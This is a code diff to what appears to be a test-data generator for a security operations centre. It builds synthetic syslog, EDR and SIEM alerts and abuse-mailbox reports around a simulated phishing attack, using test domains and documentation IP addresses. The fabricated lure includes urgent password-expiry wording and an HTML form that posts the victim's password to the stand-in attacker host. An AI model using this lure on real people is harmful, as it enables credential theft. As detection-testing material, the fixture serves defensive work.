@@ -10,20 +10,24 @@ export const cast = {
   other: { name: "joss", host: "ws-joss", address: "192.0.2.11", mail: "joss@example.test" },
   abuse: "abuse@example.test",
   attacker: "203.0.113.66",
-  lure: "sign-in.accounts-portal.test",
 } as const;
 
-/** What everybody hands over in a day, in the form in which their products say it. Half of the lines come before the service is interrupted, half after it. */
-export type Day = {
+/** What some of the products say, in their own forms. */
+export type Traffic = {
   /** RFC 5424 lines with CEF and with what sshd says, for syslog-ng to pass on. */
   readonly syslog: readonly string[];
-  /** Alerts of an endpoint product that arrive on a bus, each one JSON document. */
+  /** Alerts of an endpoint product that arrive on a bus, each one JSON document; and what is none. */
   readonly bus: readonly string[];
-  /** Whole mails to the abuse mailbox: one reports the lure, one reports a harmless newsletter. */
+  /** Whole mails to the abuse mailbox. */
   readonly mails: readonly string[];
   /** What the SIEM's rules found: the time of each, and its fields beside the usual ones. */
   readonly siem: readonly { readonly timeMs: number; readonly fields: Readonly<Record<string, unknown>> }[];
+  /** When somebody behind the sensor asked a foreign server to run a command. */
+  readonly attacksMs: readonly number[];
 };
+
+/** An ordinary morning, a mail that somebody falls for, and what was done with her password. */
+export type Day = { readonly morning: Traffic; readonly lure: Traffic; readonly abuse: Traffic };
 
 /** How many ordinary lines the firewall and the servers say. */
 export const ordinaryLines = 400;
@@ -34,10 +38,21 @@ export function socDay(endMs: number, seed: number): Day {
   const attackMs = endMs - 40 * minuteMs;
   const ordinary = Array.from({ length: ordinaryLines }, (_, index) => ordinaryLine(endMs - 9 * hourMs, index, chance));
   return {
-    syslog: [...ordinary, ...signIns(attackMs + 6 * minuteMs)],
-    bus: busAlerts(attackMs),
-    mails: [reportedLure(attackMs), reportedNewsletter(attackMs - 2 * hourMs)],
-    siem: siemAlerts(attackMs),
+    morning: {
+      syslog: ordinary,
+      bus: ['{"alert":1,"id":', ...updates(attackMs)],
+      mails: [reportedNewsletter(attackMs - 2 * hourMs)],
+      siem: [],
+      attacksMs: [],
+    },
+    lure: {
+      syslog: signIns(attackMs + 6 * minuteMs),
+      bus: [],
+      mails: [reportedLure(attackMs)],
+      siem: [],
+      attacksMs: [attackMs + 15 * minuteMs],
+    },
+    abuse: { syslog: [], bus: endpointAlerts(attackMs), mails: [], siem: siemAlerts(attackMs), attacksMs: [attackMs + 16 * minuteMs] },
   };
 }
 
@@ -89,10 +104,10 @@ const firewallLine = (timeMs: number, more: Pick<Parameters<typeof cefLine>[0], 
 
 const iso = (timeMs: number) => new Date(timeMs).toISOString();
 
-function busAlerts(attackMs: number): string[] {
-  const { name, host } = cast.victim;
-  const alert = (id: string, timeMs: number, more: object) => JSON.stringify({ alert: 1, id, time: iso(timeMs), source: "edr", ...more });
-  const updates = Array.from({ length: 6 }, (_, index) =>
+const alert = (id: string, timeMs: number, more: object) => JSON.stringify({ alert: 1, id, time: iso(timeMs), source: "edr", ...more });
+
+const updates = (attackMs: number): string[] =>
+  Array.from({ length: 6 }, (_, index) =>
     alert(`edr-low-${index}`, attackMs - (6 - index) * hourMs, {
       title: "Agent could not fetch its update",
       severity: "informational",
@@ -100,9 +115,11 @@ function busAlerts(attackMs: number): string[] {
       observables: [],
     }),
   );
+
+function endpointAlerts(attackMs: number): string[] {
+  const { name, host } = cast.victim;
   const observables = [{ type: "ip", value: cast.attacker, role: "source" }];
   return [
-    ...updates,
     alert("edr-1", attackMs + 12 * minuteMs, {
       title: "Credential dumping tool started",
       description: "credential dumping tool mimikatz run",
@@ -124,7 +141,7 @@ function busAlerts(attackMs: number): string[] {
   ];
 }
 
-function siemAlerts(attackMs: number): Day["siem"] {
+function siemAlerts(attackMs: number): Traffic["siem"] {
   const { name, host } = cast.victim;
   const common = { host: { name: host }, user: { name }, source: { ip: cast.attacker } };
   return [
@@ -165,8 +182,8 @@ function reportedLure(sentMs: number): string {
       `from mail.accounts-portal.test (mail.accounts-portal.test [${cast.attacker}]) by mx.example.test with ESMTP id 1; ${new Date(sentMs).toUTCString()}`,
     ],
     authentication: "mx.example.test; spf=fail smtp.mailfrom=accounts-portal.test; dkim=none; dmarc=fail header.from=accounts-portal.test",
-    text: `Dear user,\n\nyour password expires today. Verify your account within 24 hours or it will be suspended:\n\nhttp://${cast.lure}/verify?user=${cast.victim.name}\n\nIT Service Desk`,
-    html: `<p>Dear user,</p><p>your password expires today. Verify your account within 24 hours or it will be suspended:</p><p><a href="http://${cast.lure}/verify?user=${cast.victim.name}">https://portal.example.test/password</a></p><form action="http://${cast.attacker}/take"><input type="password" name="password"></form><p>IT Service Desk</p>`,
+    text: `Dear user,\n\nyour password expires today. Verify your account within 24 hours or it will be suspended:\n\nhttp://${cast.attacker}/verify?user=${cast.victim.name}\n\nIT Service Desk`,
+    html: `<p>Dear user,</p><p>your password expires today. Verify your account within 24 hours or it will be suspended:</p><p><a href="http://${cast.attacker}/verify?user=${cast.victim.name}">https://portal.example.test/password</a></p><form action="http://${cast.attacker}/take"><input type="password" name="password"></form><p>IT Service Desk</p>`,
   });
   return forwarded("one", cast.victim.mail, sentMs + 3 * minuteMs, "Is this real?", lure);
 }
@@ -181,7 +198,8 @@ function reportedNewsletter(sentMs: number): string {
     received: [
       `from mail.example.org (mail.example.org [198.51.100.25]) by mx.example.test with ESMTPS id 2; ${new Date(sentMs).toUTCString()}`,
     ],
-    authentication: "mx.example.test; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org",
+    authentication:
+      "mx.example.test; spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org; dmarc=pass header.from=example.org",
     text: "Hello Joss,\n\nhere are the minutes of our meeting in October. The roses did well this year.\n\nSee you next month\nAda",
   });
   return forwarded("two", cast.other.mail, sentMs + 5 * minuteMs, "Not sure about this one", newsletter);
